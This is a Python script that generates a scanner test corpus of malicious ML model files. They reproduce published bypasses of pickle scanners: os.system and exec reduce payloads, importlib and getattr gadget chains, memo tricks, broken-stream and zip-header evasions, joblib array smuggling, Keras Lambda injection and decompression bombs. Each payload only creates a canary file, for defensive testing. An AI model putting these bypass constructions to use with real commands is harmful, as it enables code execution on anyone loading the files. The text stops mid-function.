"""Generate nbsec's model-scanner corpus: every malicious family we know of and a wide benign set.

Each published scanner bypass (picklescan / ModelScan / fickling / ModelAudit advisories and
issues, GHSA ids in ``Sample.advisory``) becomes one generated file here, so tests and the
benchmark (``benchmarks/bench_model_scan.py``) run on exactly the same corpus. Files are written
into a directory given by the caller (a pytest tmp dir), never committed.

Every malicious payload, if it ever ran, would create the ``canary`` file; the canary test scans
the whole corpus and asserts that file does not exist. Files are built from real libraries where
they exist (``torch.save``, ``joblib.dump``, ``numpy.save``, ``pickle`` of pandas / scikit-learn
objects) and by assembling opcodes and archive bytes by hand where an attack needs it.

Usage: ``python tests/data/make_pickles.py OUT_DIR`` prints the manifest as JSON.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import shlex
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import asdict, dataclass
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

CANARY_NAME = "CANARY_PAYLOAD_RAN"


@dataclass(frozen=True)
class Sample:
    """One corpus file and what nbsec must say about it.

    ``expect`` is nbsec's verdict with the default policy plus ``profiles``; ``rules`` are rule
    ids nbsec must report; ``malicious`` is the ground truth used by the benchmark.
    """

    name: str
    family: str
    malicious: bool
    expect: str
    rules: tuple[str, ...] = ()
    advisory: str = ""
    profiles: tuple[str, ...] = ()


# -- opcode assembly ------------------------------------------------------------------------------


def _uni(text: str) -> bytes:
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def _bin_str(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call_p0(module: str, name: str, *args: str) -> bytes:
    """Protocol 0: GLOBAL, MARK, STRING args, TUPLE, REDUCE, STOP."""
    body = b"".join(b"S" + repr(a).encode() + b"\n" for a in args)
    return f"c{module}\n{name}\n".encode() + b"(" + body + b"tR."


def call_p2(module: str, name: str, *args: str) -> bytes:
    """Protocol 2: PROTO, GLOBAL, MARK, BINUNICODE args, TUPLE, REDUCE, STOP."""
    body = b"".join(_bin_str(a) for a in args)
    return b"\x80\x02" + f"c{module}\n{name}\n".encode() + b"(" + body + b"tR."


def call_p4(module: str, name: str, *args: str) -> bytes:
    """Protocol 4: names on the stack, STACK_GLOBAL, MEMOIZE, args, TUPLE, REDUCE, STOP."""
    body = b"".join(_uni(a) for a in args)
    return b"\x80\x04" + _uni(module) + _uni(name) + b"\x93\x94(" + body + b"tR."


def shell(canary: Path) -> str:
    return f"touch {shlex.quote(str(canary))}"


def py_code(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


class _Reduce:
    """An object that pickles as ``func(*args)``: what attackers write with ``__reduce__``."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args


# -- archive helpers ----------------------------------------------------------------------------


def torch_zip_bytes(
    data_pkl: bytes, archive: str = "archive", extra: dict[str, bytes] | None = None
) -> bytes:
    """A PyTorch-style zip (stored members) around a given data.pkl."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{archive}/data.pkl", data_pkl)
        zf.writestr(f"{archive}/byteorder", b"little")
        for name, body in (extra or {}).items():
            zf.writestr(f"{archive}/{name}", body)
        zf.writestr(f"{archive}/version", b"3\n")
    return buf.getvalue()


def _patch_zip(
    raw: bytes, member_suffix: str, patch: Callable[[bytearray, int, bool], None]
) -> bytes:
    """Apply ``patch(buf, header_offset, is_central)`` to the local and central headers of the
    member whose name ends with ``member_suffix``."""
    buf = bytearray(raw)
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
        info = next(i for i in zf.infolist() if i.filename.endswith(member_suffix))
    patch(buf, info.header_offset, False)
    pos = buf.find(b"PK\x01\x02")
    while pos >= 0:
        name_len = struct.unpack("<H", buf[pos + 28 : pos + 30])[0]
        name = bytes(buf[pos + 46 : pos + 46 + name_len]).decode()
        if name.endswith(member_suffix):
            patch(buf, pos, True)
        pos = buf.find(b"PK\x01\x02", pos + 4)
    return bytes(buf)


def _set_flag(buf: bytearray, off: int, central: bool) -> None:
    """The "encrypted" bit in the local header only: PyTorch goes by the central directory."""
    if central:
        return
    at = off + 6
    flags = struct.unpack("<H", buf[at : at + 2])[0] | 0x1
    buf[at : at + 2] = struct.pack("<H", flags)


def _bad_crc(buf: bytearray, off: int, central: bool) -> None:
    at = off + (16 if central else 14)
    buf[at : at + 4] = b"\xde\xad\xbe\xef"


def _rename_local(buf: bytearray, off: int, central: bool) -> None:
    if not central:
        name_len = struct.unpack("<H", buf[off + 26 : off + 28])[0]
        start = off + 30 + name_len - 3
        buf[start : start + 3] = b"xyz"


def keras_zip(config: dict[str, Any]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2026"}))
        zf.writestr("config.json", json.dumps(config))
        weights = _empty_h5()
        if weights:
            zf.writestr("model.weights.h5", weights)
    return buf.getvalue()


def _empty_h5() -> bytes:
    try:
        import h5py
    except ImportError:
        return b""
    raw = io.BytesIO()
    with h5py.File(raw, "w") as h5:
        h5.create_group("layers")
    return raw.getvalue()


def _dense(name: str) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": name, "units": 4, "activation": "relu"},
        "registered_name": None,
    }


def _lambda_layer(canary: Path) -> dict[str, Any]:
    code = base64.b64encode(py_code(canary).encode()).decode()
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lam",
            "function": {"class_name": "__lambda__", "config": {"code": code}},
        },
        "registered_name": None,
    }


def _sequential(layers: list[dict[str, Any]], name: str = "seq") -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": name, "layers": layers},
        "registered_name": None,
    }


def tar_bytes(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, body in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            tf.addfile(info, io.BytesIO(body))
    return buf.getvalue()


def overlapping_zip(member: bytes, copies: int) -> bytes:
    """A non-recursive zip bomb: many central directory entries share one local file."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = comp.compress(member) + comp.flush()
    crc = zlib.crc32(member)
    name = b"a"
    local = struct.pack(
        "<4sHHHHHLLLHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), len(member), len(name), 0
    )
    out = local + name + data
    central = b""
    for i in range(copies):
        cname = f"m{i}".encode()
        central += struct.pack(
            "<4sHHHHHHLLLHHHHHLL",
            b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(data), len(member), len(cname),
            0, 0, 0, 0, 0, 0,
        ) + cname  # fmt: skip
    eocd = struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, copies, copies, len(central), len(out), 0)
    return out + central + eocd


# -- the corpus -------------------------------------------------------------------------------

Builder = Callable[[Path, Path], "list[Sample]"]
BUILDERS: list[Builder] = []


def builder(fn: Builder) -> Builder:
    BUILDERS.append(fn)
    return fn


def _w(out: Path, name: str, data: bytes) -> None:
    (out / name).write_bytes(data)


D, S, OK = "dangerous", "suspicious", "safe"
P10, P11, P12, P13 = "NBS-PKL-010", "NBS-PKL-011", "NBS-PKL-012", "NBS-PKL-013"


@builder
def classic_reduce(out: Path, canary: Path) -> list[Sample]:
    samples = []
    for proto in (0, 1, 2, 3, 4, 5):
        name = f"mal_os_system_p{proto}.pkl"
        _w(out, name, pickle.dumps(_Reduce(os.system, shell(canary)), protocol=proto))
        samples.append(Sample(name, "os.system via __reduce__", True, D, (P10,)))
    _w(out, "mal_exec.bin", pickle.dumps(_Reduce(exec, py_code(canary)), protocol=2))
    _w(out, "mal_eval_p4.data", call_p4("builtins", "eval", py_code(canary)))
    _w(out, "mal_py2_builtin_eval.pkl", call_p0("__builtin__", "eval", py_code(canary)))
    _w(out, "mal_subprocess.pkl", call_p2("subprocess", "check_call", "sh", "-c", shell(canary)))
    return [
        *samples,
        Sample("mal_exec.bin", "builtins.exec", True, D, (P10,)),
        Sample("mal_eval_p4.data", "builtins.eval, STACK_GLOBAL", True, D, (P10,)),
        Sample("mal_py2_builtin_eval.pkl", "__builtin__.eval (py2 name mapping)", True, D, (P10,)),
        Sample("mal_subprocess.pkl", "subprocess", True, D, (P10,)),
    ]


@builder
def inst_and_obj(out: Path, canary: Path) -> list[Sample]:
    # INST: MARK, args, INST module name (modelscan #51)
    inst = b"(S" + repr(py_code(canary)).encode() + b"\nibuiltins\nexec\n."
    # OBJ: MARK, class (GLOBAL), args, OBJ
    obj = b"(cbuiltins\nexec\nS" + repr(py_code(canary)).encode() + b"\no."
    _w(out, "mal_inst.pkl", inst)
    _w(out, "mal_obj.pkl", obj)
    return [
        Sample("mal_inst.pkl", "INST opcode", True, D, (P10,), "protectai/modelscan#51"),
        Sample("mal_obj.pkl", "OBJ opcode", True, D, (P10,)),
    ]


@builder
def unlisted_modules(out: Path, canary: Path) -> list[Sample]:
    cases = [
        ("mal_pip_main.pkl", "pip", "main", ("install", "nbsec-canary-x"), "CVE-2025-1716"),
        ("mal_runpy.pkl", "runpy", "_run_code", (py_code(canary), "{}"), "picklescan runpy"),
        ("mal_pydoc_pipepager.pkl", "pydoc", "pipepager", ("x", shell(canary)), "picklescan pydoc"),
        ("mal_ensurepip.pkl", "ensurepip", "_run_pip", ("install", "x"), "GHSA-xp4f-hrf8-rxw7"),
        ("mal_timeit.pkl", "timeit", "timeit", (py_code(canary),), "GHSA-v7x6-rv5q-mhwc"),
        ("mal_ctypes.pkl", "ctypes", "CDLL", ("libc.so.6",), "ctypes loader"),
        ("mal_asyncio_subprocess.pkl", "asyncio.unix_events", "_UnixSubprocessTransport",
         (shell(canary),), "CVE-2025-10157"),
        ("mal_distutils_write.pkl", "distutils.file_util", "write_file", (str(canary), "x"),
         "CVE-2025-10155 family"),
        ("mal_io_fileio.pkl", "_io", "FileIO", (str(canary), "w"), "GHSA-x843-g5mx-g377 family"),
        ("mal_collect_env.pkl", "torch.utils.collect_env", "run", (shell(canary),),
         "protectai/modelscan#338"),
        ("mal_spawnv.pkl", "multiprocessing.util", "spawnv_passfds", ("/bin/sh",),
         "protectai/modelscan#338"),
        ("mal_cprofile.pkl", "cProfile", "run", (py_code(canary),), "GHSA-46h3-79wf-xr6c"),
        ("mal_pdb.pkl", "pdb", "run", (py_code(canary),), "GHSA-4675-36f9-wf6r"),
        ("mal_code_interp.pkl", "code", "InteractiveInterpreter.runcode", (py_code(canary),),
         "GHSA-3329-ghmp-jmv5 family"),
        ("mal_f2py.pkl", "numpy.f2py.crackfortran", "getlincoef", (py_code(canary), "{}"),
         "numpy.f2py eval gadget"),
        ("mal_idlelib.pkl", "idlelib.pyshell", "ModifiedInterpreter.runcode", (py_code(canary),),
         "GHSA-r8g5-cgf2-4m4m"),
        ("mal_pkgutil_resolve.pkl", "pkgutil", "resolve_name", ("os:system",),
         "GHSA-vvpj-8cmc-gx39"),
        ("mal_marshal.pkl", "marshal", "loads", ("c\x00",), "mmaitre314/picklescan#74"),
        ("mal_webbrowser.pkl", "webbrowser", "open", ("http://127.0.0.1:9/",),
         "picklescan webbrowser"),
        ("mal_requests.pkl", "requests.api", "get", ("http://127.0.0.1:9/",),
         "GHSA-hgrh-qx5j-jfwx"),
    ]  # fmt: skip
    samples = []
    for name, module, func, args, adv in cases:
        _w(out, name, call_p2(module, func, *args))
        samples.append(Sample(name, f"unlisted module {module}", True, D, (P10,), adv))
    # a module no list names at all: unknown, so at least suspicious
    _w(out, "mal_unknown_module.pkl", call_p4("evil_corp_tools.loader", "run", shell(canary)))
    samples.append(
        Sample("mal_unknown_module.pkl", "module on no list", True, S, (P11,), "allowlist design")
    )
    return samples


@builder
def gadgets(out: Path, canary: Path) -> list[Sample]:
    # importlib.import_module("os") then builtins.getattr(os, "system")(cmd)  (modelscan #331)
    imp = (
        b"\x80\x04" + _uni("builtins") + _uni("getattr") + b"\x93\x94"
        + _uni("importlib") + _uni("import_module") + b"\x93" + _uni("os") + b"\x85R"
        + _uni("system") + b"\x86R" + _uni(shell(canary)) + b"\x85R."
    )  # fmt: skip
    # operator.attrgetter("system")(os-module) via _operator (GHSA-955r-x9j8-7rhh)
    attr = (
        b"\x80\x02c_operator\nattrgetter\n" + _bin_str("system") + b"\x85R"
        + b"cposix\nsystem\n" + b"\x85R."
    )  # fmt: skip
    # functools.partial wrapper around os.system (picklescan partial bypass)
    partial = b"\x80\x02cfunctools\npartial\ncos\nsystem\n" + _bin_str(shell(canary)) + b"\x86R)R."
    _w(out, "mal_importlib_getattr.pkl", imp)
    _w(out, "mal_operator_attrgetter.pkl", attr)
    _w(out, "mal_functools_partial.pkl", partial)
    return [
        Sample("mal_importlib_getattr.pkl", "importlib + getattr chain", True, D, (P10,),
               "protectai/modelscan#331; mmaitre314/picklescan#66"),
        Sample("mal_operator_attrgetter.pkl", "_operator.attrgetter gadget", True, D, (P10,),
               "GHSA-955r-x9j8-7rhh; GHSA-m273-6v24-x4m4"),
        Sample("mal_functools_partial.pkl", "functools.partial wrapper", True, D, (P10,),
               "fickling#210 partial bypass"),
    ]  # fmt: skip


@builder
def memo_and_stack_tricks(out: Path, canary: Path) -> list[Sample]:
    # picklescan#14: BINPUT stores "os"/"system", MEMOIZE stores decoys, BINGET fetches real names
    memo = (
        b"\x80\x04" + _uni("os") + b"q\x00" + b"0" + _uni("system") + b"q\x01" + b"0"
        + _uni("torch._utils") + b"\x94" + b"0" + _uni("_rebuild_tensor_v2") + b"\x94" + b"0"
        + b"h\x00h\x01\x93" + _uni(shell(canary)) + b"\x85R."
    )  # fmt: skip
    # names built at load time: str.join over a list, fed to STACK_GLOBAL
    dyn = (
        b"\x80\x04" + _uni("builtins") + _uni("str") + b"\x93" + _uni("join") + b"\x86"
        + b"c__builtin__\ngetattr\n" + b"(" + _uni("builtins") + _uni("str") + b"\x93"
        + _uni("join") + b"tR" + _uni("") + b"](" + _uni("o") + _uni("s") + b"e\x86R"
        + _uni("system") + b"\x93" + _uni(shell(canary)) + b"\x85R."
    )  # fmt: skip
    # modelscan#85: BUILD plants attributes on numpy.prod, later imported as module/name strings
    build = (
        b"\x80\x04cnumpy\nprod\nN(Va\nVos\nd\x86b0"
        + b"cnumpy\nprod.a\n" + b"cnumpy\nprod.b\n" + b"\x93" + _uni(shell(canary)) + b"\x85R."
    )  # fmt: skip
    # modelscan#330: numpy.__builtins__ reached as an attribute
    dunder = (
        b"\x80\x04" + _uni("numpy") + _uni("__builtins__") + b"\x93\x94"
        + _uni("eval") + b"\x86" + b"0" + b"cbuiltins\nstr\n" + _uni("x") + b"\x85R."
    )  # fmt: skip
    # attribute traversal from an allowed package to os.system (protocol 4 dotted names)
    dotted = (
        b"\x80\x04" + _uni("torch.nn.modules.module") + _uni("os.system") + b"\x93"
        + _uni(shell(canary)) + b"\x85R."
    )  # fmt: skip
    _w(out, "mal_memo_confusion.pkl", memo)
    _w(out, "mal_dynamic_stack_global.pkl", dyn)
    _w(out, "mal_build_attribute.pkl", build)
    _w(out, "mal_numpy_builtins.pkl", dunder)
    _w(out, "mal_dotted_traversal.pkl", dotted)
    return [
        Sample("mal_memo_confusion.pkl", "memo confusion (BINPUT vs MEMOIZE)", True, D, (P10,),
               "mmaitre314/picklescan#14"),
        Sample("mal_dynamic_stack_global.pkl", "STACK_GLOBAL with computed names", True, D,
               (P12,), "mmaitre314/picklescan#22 (imaginaryctf safe pickle)"),
        Sample("mal_build_attribute.pkl", "BUILD attribute injection", True, D,
               ("NBS-PKL-022",), "protectai/modelscan#85"),
        Sample("mal_numpy_builtins.pkl", "numpy.__builtins__", True, D, (P10,),
               "protectai/modelscan#330"),
        Sample("mal_dotted_traversal.pkl", "dotted attribute traversal", True, D, (P10,),
               "STACK_GLOBAL dotted names (protocol 4)"),
    ]  # fmt: skip


@builder
def broken_streams(out: Path, canary: Path) -> list[Sample]:
    payload = pickle.dumps(_Reduce(os.system, shell(canary)), protocol=2)
    # nullifAI: the payload runs, then an unterminated BINUNICODE breaks the stream before STOP
    nullifai = payload[:-1] + b"X\xff\xff\x00\x00" + b"garbage"
    _w(out, "mal_nullifai.pkl", nullifai)
    _w(out, "mal_invalid_opcode_after.pkl", payload[:-1] + b"\xfe.")
    # a benign first pickle, the payload in a second one after STOP
    _w(out, "mal_second_pickle.pkl", pickle.dumps({"ok": 1}, protocol=2) + payload)
    second_p0 = pickle.dumps({"ok": 1}, protocol=0) + call_p0("os", "system", shell(canary))
    _w(out, "mal_second_pickle_p0.pkl", second_p0)
    # fickling#322: a protocol 0 FLOAT before the payload
    _w(out, "mal_float_prefix.pkl", b"}F1.0\n0" + call_p0("os", "system", shell(canary)))
    return [
        Sample("mal_nullifai.pkl", "nullifAI broken stream", True, D, (P10, P13),
               "ReversingLabs nullifAI; trailofbits/fickling#138"),
        Sample("mal_invalid_opcode_after.pkl", "invalid opcode after payload", True, D, (P13,),
               "trailofbits/fickling#139"),
        Sample("mal_second_pickle.pkl", "payload in a second pickle", True, D, (P10,),
               "multi-pickle streams"),
        Sample("mal_second_pickle_p0.pkl", "payload in a second protocol 0 pickle", True, D,
               (P10,), "multi-pickle streams"),
        Sample("mal_float_prefix.pkl", "FLOAT opcode prefix", True, D, (P10,),
               "trailofbits/fickling#322"),
    ]  # fmt: skip


@builder
def registry_and_nested(out: Path, canary: Path) -> list[Sample]:
    _w(out, "mal_ext_registry.pkl", b"\x80\x02\x82\x01)R.")
    inner = call_p0("os", "system", shell(canary))
    nested = pickle.dumps(_Reduce(pickle.loads, inner), protocol=2)
    _w(out, "mal_nested_pickle_loads.pkl", nested)
    inner_zip = torch_zip_bytes(pickle.dumps(_Reduce(os.system, shell(canary)), protocol=2))
    from_bytes = b"\x80\x02ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner_zip))
    from_bytes += inner_zip + b"\x85R."
    _w(out, "mal_nested_load_from_bytes.pt", torch_zip_bytes(from_bytes))
    return [
        Sample("mal_ext_registry.pkl", "copyreg extension registry", True, S,
               ("NBS-PKL-019",), "promptfoo/modelaudit#493"),
        Sample("mal_nested_pickle_loads.pkl", "nested pickle via pickle.loads", True, D, (P10,),
               "protectai/modelscan#267; GHSA-84r2-jw7c-4r5q"),
        Sample("mal_nested_load_from_bytes.pt", "nested torch file via _load_from_bytes", True, D,
               (P10, "NBS-PKL-015"), "issue 5 (nested through torch.storage._load_from_bytes)"),
    ]  # fmt: skip


@builder
def torch_zip_tricks(out: Path, canary: Path) -> list[Sample]:
    payload = pickle.dumps(_Reduce(os.system, shell(canary)), protocol=2)
    base = torch_zip_bytes(payload, archive="wéird näme")
    _w(out, "mal_torch_unusual_names.bin", base)
    hidden = torch_zip_bytes(pickle.dumps({"w": 1}), extra={"data/7": payload})
    _w(out, "mal_torch_hidden_member.pt", hidden)
    _w(out, "mal_torch_flag_bit.pt", _patch_zip(torch_zip_bytes(payload), "data.pkl", _set_flag))
    _w(out, "mal_torch_bad_crc.pt", _patch_zip(torch_zip_bytes(payload), "data.pkl", _bad_crc))
    _w(
        out,
        "mal_torch_name_mismatch.pt",
        _patch_zip(torch_zip_bytes(payload), "data.pkl", _rename_local),
    )
    _w(out, "mal_torch_prepended.pt", b"\x00" * 64 + torch_zip_bytes(payload))
    nullifai = torch_zip_bytes(payload[:-1] + b"X\xff\xff\x00\x00")
    _w(out, "mal_torch_nullifai.pt", nullifai)
    return [
        Sample("mal_torch_unusual_names.bin", "torch zip, unusual archive name", True, D, (P10,),
               "GHSA-769v-p64c-89pr"),
        Sample("mal_torch_hidden_member.pt", "torch zip, pickle in a data member", True, D,
               (P10,), "promptfoo/modelaudit#1043"),
        Sample("mal_torch_flag_bit.pt", "torch zip, flag bits set", True, D, (P10,),
               "GHSA-w8jq-xcqf-f792"),
        Sample("mal_torch_bad_crc.pt", "torch zip, bad CRC", True, D, (P10,), "CVE-2025-10156"),
        Sample("mal_torch_name_mismatch.pt", "torch zip, local/central names differ", True, D,
               (P10,), "GHSA-7q5r-7gvp-wc82"),
        Sample("mal_torch_prepended.pt", "torch zip with prepended bytes", True, D, (P10,),
               "zip offset tolerance"),
        Sample("mal_torch_nullifai.pt", "nullifAI inside a torch zip", True, D, (P10, P13),
               "ReversingLabs nullifAI"),
    ]  # fmt: skip


@builder
def legacy_torch(out: Path, canary: Path) -> list[Sample]:
    payload = pickle.dumps(_Reduce(os.system, shell(canary)), protocol=2)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    legacy = (
        magic + pickle.dumps(1001, protocol=2) + pickle.dumps({"little_endian": True}, protocol=2)
    )
    _w(out, "mal_torch_legacy.pt", legacy + payload + pickle.dumps([], protocol=2))
    tar = tar_bytes(
        {
            "sys_info": pickle.dumps({"protocol_version": 1000}, protocol=2),
            "pickle": payload,
            "storages": pickle.dumps(0, protocol=2),
            "tensors": pickle.dumps(0, protocol=2),
        }
    )
    _w(out, "mal_torch_legacy_tar.pt", tar)
    # the payload as the second storage record, after a real one and its raw float data
    record = b"\x80\x02(" + _bin_str("0") + _bin_str("cpu") + b"ctorch\nFloatStorage\nt."
    storages = pickle.dumps(2, protocol=2) + record + struct.pack("<q", 3) + b"\x00" * 12
    tar2 = tar_bytes(
        {
            "sys_info": pickle.dumps({"protocol_version": 1000}, protocol=2),
            "pickle": pickle.dumps({"w": 1}, protocol=2),
            "storages": storages + payload,
            "tensors": pickle.dumps(0, protocol=2),
        }
    )
    _w(out, "mal_torch_legacy_tar_storage_record.pt", tar2)
    return [
        Sample("mal_torch_legacy_tar_storage_record.pt", "legacy tar, payload in a storage record",
               True, D, (P10,), "issue 5 (legacy tar format)"),
        Sample("mal_torch_legacy.pt", "legacy torch sequential pickles", True, D, (P10,),
               "issue 5 (legacy non-zip format)"),
        Sample("mal_torch_legacy_tar.pt", "legacy torch tar format", True, D, (P10,),
               "issue 5 (legacy tar format)"),
    ]  # fmt: skip


@builder
def compressed_and_joblib(out: Path, canary: Path) -> list[Sample]:
    import joblib
    import numpy as np

    samples = []
    obj = {"weights": np.arange(16.0), "hook": _Reduce(os.system, shell(canary))}
    for comp in ("zlib", "gzip", "bz2", "lzma", "xz"):
        name = f"mal_joblib_{comp}.joblib"
        joblib.dump(obj, out / name, compress=(comp, 3))
        samples.append(Sample(name, f"joblib compressed ({comp})", True, D, (P10,),
                              "issue 5 (compressed joblib)"))  # fmt: skip
    joblib.dump(obj, out / "mal_joblib_plain.joblib")
    samples.append(Sample("mal_joblib_plain.joblib", "joblib", True, D, (P10,)))
    # opcodes hidden where joblib expects raw array bytes: joblib.load reads them as data,
    # pickle.load / torch.load run them (no alignment key, so no padding byte in between)
    smuggled = f"cos\nsystem\n(S{shell(canary)!r}\ntR".encode()
    dtype = (
        b"cnumpy\ndtype\n(" + _bin_str("u1") + b"\x89\x88tR"
        + b"(K\x03" + _bin_str("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    )  # fmt: skip
    state = (
        b"}(" + _bin_str("subclass") + b"cnumpy\nndarray\n"
        + _bin_str("shape") + b"J" + struct.pack("<i", len(smuggled)) + b"\x85"
        + _bin_str("order") + _bin_str("C") + _bin_str("dtype") + dtype
        + _bin_str("allow_mmap") + b"\x89u"
    )  # fmt: skip
    wrapper = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + state + b"b"
    _w(out, "mal_joblib_array_smuggle.joblib", wrapper + smuggled + b".")
    samples.append(
        Sample("mal_joblib_array_smuggle.joblib", "opcodes smuggled as joblib array data", True,
               D, (P10,), "joblib inline-array layout")
    )  # fmt: skip
    payload = pickle.dumps(_Reduce(os.system, shell(canary)), protocol=4)
    _w(out, "mal_model.pkl.gz", gzip.compress(payload))
    _w(out, "mal_bz2.pkl.bz2", bz2.compress(payload))
    _w(out, "mal_xz.pkl.xz", lzma.compress(payload))
    samples += [
        Sample("mal_model.pkl.gz", ".pkl.gz", True, D, (P10,), "issue 5 (.pkl.gz)"),
        Sample("mal_bz2.pkl.bz2", ".pkl.bz2", True, D, (P10,)),
        Sample("mal_xz.pkl.xz", ".pkl.xz", True, D, (P10,)),
    ]
    return samples


@builder
def numpy_objects(out: Path, canary: Path) -> list[Sample]:
    import numpy as np

    arr = np.array([_Reduce(os.system, shell(canary)), 1], dtype=object)
    np.save(out / "mal_object_array.npy", arr, allow_pickle=True)
    np.savez(out / "mal_object_array.npz", ok=np.arange(3), bad=arr)
    np.savez_compressed(out / "mal_object_array_compressed.npz", bad=arr)
    return [
        Sample("mal_object_array.npy", "numpy object array", True, D, (P10,)),
        Sample("mal_object_array.npz", "npz with object array", True, D, (P10,),
               "picklescan aborts on .npz without numpy"),
        Sample("mal_object_array_compressed.npz", "compressed npz object array", True, D, (P10,)),
    ]  # fmt: skip


@builder
def keras_models(out: Path, canary: Path) -> list[Sample]:
    nested = _sequential(
        [_dense("d1"), _sequential([_dense("d2"), _lambda_layer(canary)], "inner")]
    )
    _w(out, "mal_keras_nested_lambda.keras", keras_zip(nested))
    func = {
        "module": "builtins",
        "class_name": "function",
        "config": "exec",
        "registered_name": "function",
    }
    layer = _dense("d1")
    layer["config"]["activation"] = func
    _w(out, "mal_keras_module_injection.keras", keras_zip(_sequential([layer])))
    samples = [
        Sample("mal_keras_nested_lambda.keras", "Keras Lambda in a nested model", True, D,
               ("NBS-PKL-016",), "issue 5 (Lambda inside a nested model)"),
        Sample("mal_keras_module_injection.keras", "Keras config module injection", True, D,
               ("NBS-PKL-017",), "CVE-2025-1550 (Keras safe_mode bypass)"),
    ]  # fmt: skip
    try:
        import h5py
    except ImportError:
        return samples
    with h5py.File(out / "mal_keras_lambda.h5", "w") as h5:
        h5.attrs["model_config"] = json.dumps(_sequential([_dense("d"), _lambda_layer(canary)]))
        h5.attrs["keras_version"] = "2.15.0"
    samples.append(
        Sample("mal_keras_lambda.h5", "Keras .h5 Lambda", True, D, ("NBS-PKL-016",), "h5 legacy")
    )
    return samples


@builder
def archives(out: Path, canary: Path) -> list[Sample]:
    payload = pickle.dumps(_Reduce(os.system, shell(canary)), protocol=4)
    _w(out, "mal_in_tar.tar", tar_bytes({"model/weights.pkl": payload}))
    _w(out, "mal_in_zip.zip", _zip({"m/model.bin": payload}))
    samples = [
        Sample("mal_in_tar.tar", "pickle inside tar", True, D, (P10,)),
        Sample("mal_in_zip.zip", "pickle inside a plain zip", True, D, (P10,)),
    ]
    try:
        import py7zr
    except ImportError:
        return samples
    with py7zr.SevenZipFile(out / "mal_in_7z.7z", "w") as archive:
        archive.writestr(payload, "model/data.pkl")
    samples.append(Sample("mal_in_7z.7z", "pickle inside 7z", True, D, (P10,), "nullifAI used 7z"))
    return samples


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in members.items():
            zf.writestr(name, body)
    return buf.getvalue()


@builder
def bombs(out: Path, canary: Path) -> list[Sample]:
    _w(out, "mal_zip_overlap_bomb.zip", overlapping_zip(b"\x00" * (1 << 20), 64))
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\x00" * (1 << 20)
    gz = b"".join(comp.compress(chunk) for _ in range(80)) + comp.flush()
    _w(out, "mal_gzip_bomb.pkl.gz", gz)
    _w(out, "mal_safetensors_absurd.safetensors", struct.pack("<Q", 1 << 60) + b'{"a":1}')
    return [
        Sample("mal_zip_overlap_bomb.zip", "overlapping zip bomb", True, S, ("NBS-PKL-018",),
               "zip bomb (overlapping entries)"),
        Sample("mal_gzip_bomb.pkl.gz", "gzip bomb", True, S, ("NBS-PKL-018",), "gzip bomb"),
        Sample("mal_safetensors_absurd.safetensors", "absurd safetensors header", True, S,
               ("NBS-PKL-018",), "absurd header length"),
    ]  # fmt: skip


@builder
def loader_differentials(out: Path, canary: Path) -> list[Sample]:
    """Streams that loaders read differently: what a scanner with its own parser misses."""
    P23 = "NBS-PKL-023"
    mkdir = f"cos\nmkdir\n(V{canary}\ntR".encode()
    # python/cpython#154848: a GLOBAL whose line crosses the end of a FRAME (the C unpickler
    # reads on; pickletools and the pure-Python unpickler see different opcodes)
    straddle = b"\x80\x04\x95" + struct.pack("<Q", 4) + b"N0" + mkdir + b"0N."
    # the report's own shape: a peek-window-sized line, then a frame that hides a BINBYTES
    hidden = f"cos\nmkdir\nV{canary}\n\x85R".encode()
    window = (
        b"\x80\x05N"
        + b"V"
        + b"a" * (8192 * 16 - 17)
        + b"\n0("
        + b"\x95"
        + struct.pack("<Q", 2)
        + b"B\x07\x01\x00\x00"
        + b"\x00\x00"
        + (hidden + b"(").ljust(261, b"N")
        + b"1."
    )
    nested = (
        b"\x80\x04\x95"
        + struct.pack("<Q", 30)
        + b"N0\x95"
        + struct.pack("<Q", 2)
        + b"N0"
        + mkdir
        + b"."
    )
    # STOP inside a frame: pickle.load on a peekable file and on a stream start the next pickle
    # at different offsets
    stop_in_frame = b"\x80\x04\x95" + struct.pack("<Q", 3 + len(mkdir)) + b"N." + mkdir + b"."
    # a FRAME longer than the file: the C unpickler stops, the pure-Python one (joblib, pandas'
    # fallback) reads what is there and runs it
    short = b"\x80\x04\x95" + struct.pack("<Q", 4096) + mkdir + b"."
    # the last GLOBAL line without its newline: only the pure-Python unpickler imports it
